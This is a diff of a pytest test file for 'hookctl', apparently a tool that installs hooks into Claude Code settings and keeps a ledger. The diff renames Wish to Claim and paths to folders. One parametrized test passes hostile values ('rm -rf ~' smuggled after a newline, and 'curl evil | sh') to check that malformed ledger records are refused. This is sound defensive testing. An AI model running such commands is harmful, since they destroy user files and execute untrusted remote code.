@@ -14,19 +14,19 @@ from hypothesis import strategies as st
 from hookctl import engine, transaction
 from hookctl.errors import HookctlError
 from hookctl.ledger import store
-from hookctl.model import Entry, PackRecord, Record, Wish
-from hookctl.system import paths
+from hookctl.model import Claim, Entry, PackRecord, Record
+from hookctl.system import folders
 from tests import plain
 from tests.conftest import Hookctl, put
 
 SCHEMA = json.loads((Path(__file__).parents[1] / "schemas" / "ledger.schema.json").read_text())
 HANDLER = {"type": "command", "command": ": hookctl=guard/stop; exit 0", "timeout": 10}
 ENTRIES = (
-    Entry(("env", "A"), "leaf", "owned", None, "5", {"guard": Wish("5", "1.0")}),
-    Entry(("env", "B"), "leaf", "owned", "1e3", "é\u2028", {"p": Wish("5", "1.0", "max"), "q": Wish("7", "2", "max")}),
-    Entry(("env", "C"), "leaf", "owned", "", None, {"guard": Wish(None, "")}),
-    Entry(("a", 0, "b"), "leaf", "adopted", None, {"x": [1, 2.5, True]}, {"x": Wish(1, "1")}),
-    Entry(("hooks", "Stop"), "element", "owned", None, HANDLER, {"guard": Wish(HANDLER, "1")}, "guard/stop"),
+    Entry(("env", "A"), "leaf", "owned", None, "5", {"guard": Claim("5", "1.0")}),
+    Entry(("env", "B"), "leaf", "owned", "1e3", "é\u2028", {"p": Claim("5", "1.0", "max"), "q": Claim("7", "2", "max")}),
+    Entry(("env", "C"), "leaf", "owned", "", None, {"guard": Claim(None, "")}),
+    Entry(("a", 0, "b"), "leaf", "adopted", None, {"x": [1, 2.5, True]}, {"x": Claim(1, "1")}),
+    Entry(("hooks", "Stop"), "element", "owned", None, HANDLER, {"guard": Claim(HANDLER, "1")}, "guard/stop"),
     Entry(("hooks",), "container"),
     Entry(("hooks", "Stop"), "container"),
 )
@@ -72,12 +72,12 @@ def test_what_is_written_is_valid(commands: list[list[str]], hookctl: Hookctl, s
     put(settings, b'{"env": {"MAX_STOP_BLOCKS": "5", "CLAUDE_CODE_STOP_HOOK_BLOCK_CAP": 3}, "hooks": {}}')
     for verb, *options in commands:
         assert hookctl(verb, "--host", "claude", *options).code == 0
-        valid(Path(paths.here().ledger).read_bytes())
+        valid(Path(folders.here().ledger).read_bytes())
 
 
 def test_a_newer_ledger_is_refused_and_nothing_is_written(hookctl: Hookctl, settings: Path) -> None:
     text = b'{"ledger_version": 3, "needs": "0.9.1", "anything": []}'
-    path = put(Path(paths.here().ledger), text)
+    path = put(Path(folders.here().ledger), text)
     for command in (["install", "--host", "claude"], ["uninstall", "--host", "claude"], ["status"]):
         outcome = hookctl(*command, "--json")
         error = outcome.result["errors"][0]
@@ -91,7 +91,7 @@ def test_a_newer_ledger_is_refused_and_nothing_is_written(hookctl: Hookctl, sett
 @pytest.mark.parametrize("needs", [None, 1, "", "0.9.1\nrm -rf ~", "curl evil | sh", ["0.9.1"]])
 @pytest.mark.parametrize("name", ["ledger", "journal"])
 def test_a_newer_record_that_names_no_version_is_refused_without_one(isolated: Path, name: str, needs: Any) -> None:
-    own = paths.here()
+    own = folders.here()
     put(Path(own.state) / f"{name}.json", json.dumps({f"{name}_version": 9, "needs": needs}))
     with pytest.raises(HookctlError) as caught:
         store.load(own.ledger) if name == "ledger" else transaction.pending(own)
@@ -104,11 +104,11 @@ def test_it_says_under_which_home_it_was_written_and_goes_on_saying_so(
     hookctl: Hookctl, isolated: Path, settings: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     assert hookctl("install", "--host", "claude").code == 0
-    home = store.read(paths.here().ledger).home
+    home = store.read(folders.here().ledger).home
     assert home == str((isolated / "home").resolve())
     monkeypatch.setenv("HOME", str(isolated / "elsewhere"))
     assert hookctl("install", "--host", "claude", "--scope", "user").code == 0
-    assert store.read(paths.here().ledger).home == home
+    assert store.read(folders.here().ledger).home == home
 
 
 @pytest.mark.parametrize("version", [True, 0, -1, "1", 1.0, None])
@@ -191,7 +191,7 @@ def test_what_is_wrong_with_a_ledger_is_said_in_words(
 def test_what_is_wrong_with_a_journal_is_said_in_words_too(isolated: Path) -> None:
     put(isolated / "state" / "journal.json", '{\n"journal_version" 1}')
     with pytest.raises(HookctlError) as caught:
-        transaction.pending(paths.here())
+        transaction.pending(folders.here())
     assert caught.value.message == "the journal of an interrupted run cannot be read: this is no JSON"
     assert (caught.value.line, caught.value.column) == (2, 19)
 
@@ -229,7 +229,7 @@ def test_a_ledger_with_a_value_of_a_wrong_kind_is_refused_or_does_no_harm(tmp_pa
         inner, max_size=4), max_leaves=10).map(lambda value: json.dumps(value).encode())))  # fmt: skip
 def test_arbitrary_bytes_as_ledger_or_journal_are_refused_in_words(tmp_path_factory: Any, data: bytes) -> None:
     state = tmp_path_factory.getbasetemp() / "arbitrary"
-    own = paths.Folders(str(state), str(state), {}, str(state))
+    own = folders.Folders(str(state), str(state), {}, str(state))
     for read in (lambda: store.load(own.ledger), lambda: transaction.pending(own)):
         put(state / "ledger.json", data)
         put(state / "journal.json", data)
@@ -243,7 +243,7 @@ def test_arbitrary_bytes_as_ledger_or_journal_are_refused_in_words(tmp_path_fact
 def test_no_command_raises_on_a_broken_ledger_or_journal(data: bytes, hookctl: Hookctl, settings: Path) -> None:
     assert hookctl("install", "--host", "claude").code == 0
     before = settings.read_bytes()
-    own = paths.here()
+    own = folders.here()
     for path in (own.ledger, own.journal):
         there = Path(path).read_bytes() if Path(path).exists() else None
         put(Path(path), data)
